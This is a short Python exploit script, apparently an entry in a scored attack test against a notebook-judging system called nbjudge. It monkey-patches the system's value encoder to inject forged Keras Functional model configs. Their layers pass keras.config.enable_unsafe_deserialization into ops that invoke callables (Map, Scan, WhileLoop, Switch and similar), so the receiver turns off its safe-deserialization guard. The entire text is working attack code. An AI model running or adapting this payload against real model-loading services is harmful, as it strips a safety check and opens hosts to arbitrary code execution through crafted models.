# why: a forged Keras model of operations that call what they are given: Map, Scan, WhileLoop, Switch and their kind
# earns: 7
import json
import msgpack
from nbjudge.engine.transport.values import Encoder

def function(module, name):
    return {"class_name": "function", "config": name, "module": module,
            "registered_name": "function"}

tensor = {"class_name": "__keras_tensor__", "config": {
    "shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}
called = function("keras.config", "enable_unsafe_deserialization")
ARGUMENTS = {
    "Switch": [tensor, [called, called]], "Cond": [tensor, called, called],
    "Map": [called, tensor], "Scan": [called, tensor, tensor], "WhileLoop": [called, called, tensor],
    "ForiLoop": [0, 1, called, tensor], "VectorizedMap": [called, tensor],
    "AssociativeScan": [called, tensor], "CustomGradient": [called], "JVP": [called, tensor],
}
layers = [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
           "name": "x", "inbound_nodes": [],
           "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "x"}}]
layers += [{"module": "keras.src.ops.core", "class_name": name, "registered_name": name,
            "config": {"name": name}, "name": name,
            "inbound_nodes": [{"args": args, "kwargs": {}}]} for name, args in ARGUMENTS.items()]
honest_tree = Encoder.tree

def forged(self, values):
    named = msgpack.unpackb(honest_tree(self, values), raw=False, strict_map_key=False)
    models = []
    for layer in layers[1:]:
        config = {"module": "keras.src.models.functional", "class_name": "Functional",
                  "registered_name": "Functional", "config": {
                      "name": "m", "trainable": True, "layers": [layers[0], layer],
                      "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]}}
        models.append(["model", {"config": json.dumps(config), "weights": [], "trainable": [],
                                 "compiled": None}])
    named["decoded"] = ["list", models]
    return msgpack.packb(named)

Encoder.tree = forged
decoded = 0
